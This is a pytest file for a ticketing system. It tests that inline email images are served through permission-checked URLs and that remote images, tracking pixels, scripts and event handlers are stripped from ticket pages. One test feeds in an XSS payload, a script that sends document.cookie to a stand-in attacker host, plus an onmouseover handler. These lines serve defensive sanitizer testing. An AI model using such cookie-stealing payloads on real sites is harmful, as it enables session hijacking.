"""Inline email images (multipart/related, ``cid:``) shown in place on the ticket page,
through the permission-checked attachment URL; nothing remote is ever loaded."""

from __future__ import annotations

import base64
import re
import smtplib

import pytest

from channels_hub.email_ingest import ingest_email
from channels_hub.email_smtpd import ingress_controller
from tests.channels_hub import email_samples as samples
from tests.tickets.test_console_views import client_for
from tickets.models import Attachment, Message
from tickets.services import reply

SCRATCH_CID = "image001.png@01DB4A2C.5F3E1D00"


def outlook_related(extra_html: str = "") -> bytes:
    """As Outlook writes it: multipart/related around the alternative, the picture an
    inline part with a Content-ID, the HTML naming it as ``cid:``."""
    png = base64.encodebytes(samples.PNG).decode()
    html = (
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
        "</head><body><p>The box arrived like this:</p>"
        f'<p><img width="320" height="240" src="cid:{SCRATCH_CID}" alt="scratch"></p>'
        f"{extra_html}<p>Li Na</p></body></html>"
    )
    return (
        "From: Li Na <li.na@example.cn>\r\n"
        "To: support@brand.example\r\n"
        "Subject: Damaged box\r\n"
        "Date: Thu, 03 Dec 2026 21:13:20 +0800\r\n"
        "Message-ID: <DB9PR01MB1234@example.cn>\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/related; boundary="rel"; type="multipart/alternative"\r\n'
        "\r\n"
        "--rel\r\n"
        'Content-Type: multipart/alternative; boundary="alt"\r\n'
        "\r\n"
        "--alt\r\n"
        'Content-Type: text/plain; charset="utf-8"\r\n'
        "\r\n"
        "The box arrived like this:\r\n[cid:image001.png]\r\nLi Na\r\n"
        "--alt\r\n"
        'Content-Type: text/html; charset="utf-8"\r\n'
        "Content-Transfer-Encoding: 8bit\r\n"
        "\r\n"
        f"{html}\r\n"
        "--alt--\r\n"
        "\r\n"
        "--rel\r\n"
        'Content-Type: image/png; name="image001.png"\r\n'
        "Content-Description: image001.png\r\n"
        'Content-Disposition: inline; filename="image001.png"; size=68\r\n'
        f"Content-ID: <{SCRATCH_CID}>\r\n"
        "Content-Transfer-Encoding: base64\r\n"
        "\r\n"
        f"{png}"
        "--rel--\r\n"
    ).encode()


def image_sources(html: str) -> list[str]:
    return re.findall(r'<img[^>]*\ssrc="([^"]*)"', html)


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def stored(db):
    """An inline-image email ingested and its ticket given to team A."""

    def store(raw: bytes, personas) -> Message:
        outcome = ingest_email(raw, connection=samples.make_email_connection())
        assert outcome.status == "stored", outcome
        message = Message.objects.select_related("ticket").get(pk=outcome.message_id)
        message.ticket.team = personas.team_a
        message.ticket.save(update_fields=["team"])
        return message

    return store


def test_cid_image_points_at_its_stored_attachment(stored, personas):
    message = stored(outlook_related(), personas)

    attachment = Attachment.objects.get(message=message)
    assert attachment.content_type == "image/png"
    assert image_sources(message.body_html) == [f"/console/attachments/{attachment.pk}/"]
    assert "cid:" not in message.body_html
    assert 'alt="scratch"' in message.body_html


def test_inline_image_is_served_to_the_tickets_agent_and_refused_to_an_outsider(
    stored, personas, client
):
    message = stored(outlook_related(), personas)
    (url,) = image_sources(message.body_html)

    seen = client_for(personas.agent).get(url)
    assert seen.status_code == 200
    assert seen["Content-Type"] == "image/png"
    assert seen["X-Content-Type-Options"] == "nosniff"
    assert b"".join(seen.streaming_content) == samples.PNG

    assert client_for(personas.outsider).get(url).status_code == 404
    anonymous = client.get(url)
    assert anonymous.status_code == 302 and "/login" in anonymous["Location"]


def test_ticket_page_renders_the_image_in_place_and_loads_images_from_itself_only(stored, personas):
    message = stored(outlook_related(), personas)
    (url,) = image_sources(message.body_html)

    page = client_for(personas.agent).get(f"/console/tickets/{message.ticket_id}/")

    assert page.status_code == 200
    assert page["Content-Security-Policy"] == "img-src 'self'"
    html = page.content.decode()
    bubble = html[html.index('class="bubble-body bubble-rich"') :]
    assert f'src="{url}"' in bubble[: bubble.index("</div>")]
    assert "cid:" not in html


def test_unknown_cid_and_remote_images_are_dropped_and_script_stays_out(stored, personas):
    extra = (
        '<p><img src="cid:never-sent@example.cn" alt="missing picture"></p>'
        '<img src="https://tracker.example/open.gif?u=li.na" width="1" height="1">'
        '<img src="http://cdn.example/logo.png" alt="logo">'
        '<img src="//cdn.example/logo.png">'
        "<script>fetch('https://evil.example/'+document.cookie)</script>"
        '<p onmouseover="alert(1)">Thanks</p>'
    )
    message = stored(outlook_related(extra), personas)

    assert len(image_sources(message.body_html)) == 1  # the one inline picture
    for gone in ("never-sent", "missing picture", "tracker", "cdn.example", "logo", "script"):
        assert gone not in message.body_html
    assert "onmouseover" not in message.body_html
    assert "Thanks" in message.body_html

    page = client_for(personas.agent).get(f"/console/tickets/{message.ticket_id}/")
    html = page.content.decode()
    assert not re.search(r'src="(https?:)?//', html)
    assert "tracker.example" not in html


def test_remote_image_in_any_stored_body_is_not_rendered(stored, personas):
    """An agent's or partner's HTML reply keeps its markup for the email it becomes, but
    the console shows only images it serves itself."""
    message = stored(outlook_related(), personas)
    reply(
        ticket=message.ticket,
        author=personas.agent.user,
        text="See our guide",
        html='<p>See <img src="https://brand.example/guide.png" alt="guide"> our guide</p>',
    )

    page = client_for(personas.agent).get(f"/console/tickets/{message.ticket_id}/")

    html = page.content.decode()
    assert "brand.example/guide.png" not in html
    assert "See  our guide" in html or "See our guide" in html


def test_refused_inline_part_leaves_no_broken_image(stored, personas):
    raw = outlook_related().replace(
        base64.encodebytes(samples.PNG), base64.encodebytes(b"BM\x00\x01 not an accepted type")
    )
    message = stored(raw, personas)

    assert not Attachment.objects.filter(message=message).exists()
    assert "<img" not in message.body_html
    assert "image001.png" in message.body_text  # named as not accepted


@pytest.fixture
def listener(transactional_db):
    controller = ingress_controller(host="127.0.0.1", port=samples.free_port(), max_bytes=1 << 20)
    controller.start()
    yield controller
    controller.stop()


def test_inline_image_arriving_by_smtp_is_stored_in_place(listener):
    samples.make_email_connection()
    with smtplib.SMTP(listener.hostname, listener.port, timeout=10) as smtp:
        smtp.ehlo("mail.example.cn")
        refused = smtp.sendmail(
            samples.CUSTOMER, [samples.SUPPORT], samples.inline_image().as_bytes()
        )

    assert refused == {}
    message = Message.objects.get()
    attachment = Attachment.objects.get(message=message)
    assert image_sources(message.body_html) == [f"/console/attachments/{attachment.pk}/"]
